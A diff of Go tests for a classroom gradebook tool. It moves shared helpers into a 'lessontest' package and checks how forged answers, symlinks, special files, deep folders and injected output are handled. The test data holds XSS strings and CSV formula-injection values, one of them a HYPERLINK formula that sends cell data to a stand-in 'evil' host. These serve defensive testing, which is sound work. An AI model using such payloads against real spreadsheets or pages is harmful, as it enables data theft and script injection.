@@ -14,27 +14,9 @@ import (
 	"unicode/utf8"
 
 	gb "github.com/k12notebooks/golessons/gradebook"
+	"github.com/k12notebooks/golessons/internal/lessontest"
 	"github.com/k12notebooks/golessons/quiz"
 )
-
-var (
-	seedFree = "{ “question_type”: “freeform”, “question”: “What parameter do you set to True in the API call to enable streaming?”, “answer”: “stream”, “submitted_answer”: “” }"
-	seedTF   = "{ “question_type”: “true_false”, “question”: “Without streaming, the full response must be completely generated before any text is displayed.”, “answer”: “True”, “submitted_answer”: “” }"
-	seedMC   = "{ “question_type”: “multiple_choice”, “question”: “What does chunk.choices[0].delta.content contain during streaming?”, “options”: [ { “key”: “a”, “text”: “The entire completed response” }, { “key”: “b”, “text”: “A small piece of the response text (one or more tokens)” } ], “answer”: “b”, “submitted_answer”: “” }"
-)
-
-func ids(t *testing.T) (free, tf, mc *quiz.Question) {
-	t.Helper()
-	var qs []*quiz.Question
-	for _, s := range []string{seedFree, seedTF, seedMC} {
-		q, err := quiz.ParseOne(s)
-		if err != nil {
-			t.Fatal(err)
-		}
-		qs = append(qs, q)
-	}
-	return qs[0], qs[1], qs[2]
-}
 
 func writeAnswers(t *testing.T, path string, a *quiz.Answers) {
 	t.Helper()
@@ -46,34 +28,13 @@ func writeAnswers(t *testing.T, path string, a *quiz.Answers) {
 	}
 }
 
-func writeTestFile(t *testing.T, path, content string) {
-	t.Helper()
-	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
-		t.Fatal(err)
-	}
-	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
-		t.Fatal(err)
-	}
-}
-
-// lesson writes a lesson notebook holding the three questions.
-func lesson(t *testing.T, path string) {
-	var cells []map[string]any
-	for _, s := range []string{seedFree, seedTF, seedMC} {
-		cells = append(cells, map[string]any{"cell_type": "code", "metadata": map[string]any{}, "outputs": []any{},
-			"source": "%%\nhelpers.Question(`" + s + "`)"})
-	}
-	data, _ := json.Marshal(map[string]any{"cells": cells, "metadata": map[string]any{}, "nbformat": 4, "nbformat_minor": 5})
-	writeTestFile(t, path, string(data))
-}
-
 func at(min int) time.Time { return time.Date(2025, 3, 4, 10, min, 0, 0, time.UTC) }
 
 // sample builds a folder of students' copies.
 func sample(t *testing.T) (in, lessons string) {
 	dir := t.TempDir()
 	in = filepath.Join(dir, "submissions")
-	free, tf, mc := ids(t)
+	free, tf, mc := lessontest.Questions(t)
 
 	alice := quiz.NewAnswers("openai-streaming.ipynb")
 	alice.Add(free.ID, quiz.Attempt{Answer: "streaming", Time: at(1)}, free.Text, 1)
@@ -93,12 +54,12 @@ func sample(t *testing.T) (in, lessons string) {
 	writeAnswers(t, filepath.Join(in, "carol.answers.json"), carol)
 
 	// Malformed: reported and skipped.
-	writeTestFile(t, filepath.Join(in, "dave", "openai-streaming.answers.json"), "{\n  \"answers\": {\n    \"q-1\": {\"answer\": \"a\",}\n  }\n}")
+	lessontest.WriteFile(t, filepath.Join(in, "dave", "openai-streaming.answers.json"), "{\n  \"answers\": {\n    \"q-1\": {\"answer\": \"a\",}\n  }\n}")
 	// Checkpoints are not read.
-	writeTestFile(t, filepath.Join(in, "alice", ".ipynb_checkpoints", "openai-streaming.answers.json"), "{broken")
+	lessontest.WriteFile(t, filepath.Join(in, "alice", ".ipynb_checkpoints", "openai-streaming.answers.json"), "{broken")
 
 	lessons = filepath.Join(dir, "notebooks")
-	lesson(t, filepath.Join(lessons, "openai-streaming.ipynb"))
+	lessontest.WriteLesson(t, filepath.Join(lessons, "openai-streaming.ipynb"))
 	return in, lessons
 }
 
@@ -192,7 +153,7 @@ func TestGradebook(t *testing.T) {
 		t.Errorf("a checkpoint was read: %q", r.stderr)
 	}
 
-	free, tf, mc := ids(t)
+	free, tf, mc := lessontest.Questions(t)
 	nb := "openai-streaming.ipynb"
 	hostile := "<img src=x onerror=alert(1)>"
 	want := [][]string{
@@ -262,7 +223,7 @@ func forged(t *testing.T, path string, answers map[string]any) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	writeTestFile(t, path, string(data))
+	lessontest.WriteFile(t, path, string(data))
 }
 
 func rec(answer string, correct bool, points float64) map[string]any {
@@ -275,7 +236,7 @@ func rec(answer string, correct bool, points float64) map[string]any {
 func TestGradebookRegradesForgedAnswers(t *testing.T) {
 	_, lessons := sample(t)
 	in := filepath.Join(t.TempDir(), "class")
-	free, tf, mc := ids(t)
+	free, tf, mc := lessontest.Questions(t)
 	mallory := filepath.Join(in, "mallory", "openai-streaming.answers.json")
 	forged(t, mallory, map[string]any{
 		free.ID:   rec("streaming", true, 1), // wrong, marked right
@@ -348,7 +309,7 @@ func TestGradebookRefusesSpecialFiles(t *testing.T) {
 	_, lessons := sample(t)
 	dir := t.TempDir()
 	in := filepath.Join(dir, "class")
-	free, tf, mc := ids(t)
+	free, tf, mc := lessontest.Questions(t)
 	right := map[string]any{free.ID: rec("stream", true, 1), tf.ID: rec("True", true, 1), mc.ID: rec("b", true, 1)}
 	name := "openai-streaming.answers.json"
 	forged(t, filepath.Join(in, "alice", name), right)
@@ -376,7 +337,7 @@ func TestGradebookRefusesSpecialFiles(t *testing.T) {
 	symlink(filepath.Join(dir, "elsewhere"), refused["linked"])
 	symlink(filepath.Join("..", "alice", name), refused["copycat"])
 	data, _ := json.Marshal(map[string]any{"notebook": "openai-streaming.ipynb", "answers": right})
-	writeTestFile(t, refused["big"], string(data)+strings.Repeat(" ", 1<<20))
+	lessontest.WriteFile(t, refused["big"], string(data)+strings.Repeat(" ", 1<<20))
 	if err := os.MkdirAll(filepath.Dir(refused["fifo"]), 0o755); err != nil {
 		t.Fatal(err)
 	}
@@ -406,7 +367,7 @@ func TestGradebookRefusesSpecialFiles(t *testing.T) {
 func TestGradebookRefusesDeepFolders(t *testing.T) {
 	_, lessons := sample(t)
 	in := filepath.Join(t.TempDir(), "class")
-	free, _, _ := ids(t)
+	free, _, _ := lessontest.Questions(t)
 	forged(t, filepath.Join(in, "alice", "openai-streaming.answers.json"), map[string]any{free.ID: rec("stream", true, 1)})
 	deep := filepath.Join(in, "deep", strings.Repeat("d/", gb.MaxDepth), "openai-streaming.answers.json")
 	forged(t, deep, map[string]any{free.ID: rec("stream", true, 1)})
@@ -423,7 +384,7 @@ func TestGradebookRefusesDeepFolders(t *testing.T) {
 func TestGradebookCSVFormulaInjection(t *testing.T) {
 	_, lessons := sample(t)
 	in := filepath.Join(t.TempDir(), "class")
-	free, _, _ := ids(t)
+	free, _, _ := lessontest.Questions(t)
 	hostile := []string{"=HYPERLINK(\"http:\\\\evil\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"}
 	for i, h := range hostile {
 		forged(t, filepath.Join(in, h, "openai-streaming.answers.json"), map[string]any{free.ID: rec(hostile[len(hostile)-1-i], false, 1)})
@@ -457,7 +418,7 @@ func TestGradebookCSVFormulaInjection(t *testing.T) {
 func TestGradebookHTMLEscapes(t *testing.T) {
 	_, lessons := sample(t)
 	in := filepath.Join(t.TempDir(), "class")
-	free, _, _ := ids(t)
+	free, _, _ := lessontest.Questions(t)
 	name := "<script>alert(1)" // a folder name cannot hold a slash
 	path := filepath.Join(in, name, "openai-streaming.answers.json")
 	forged(t, path, map[string]any{
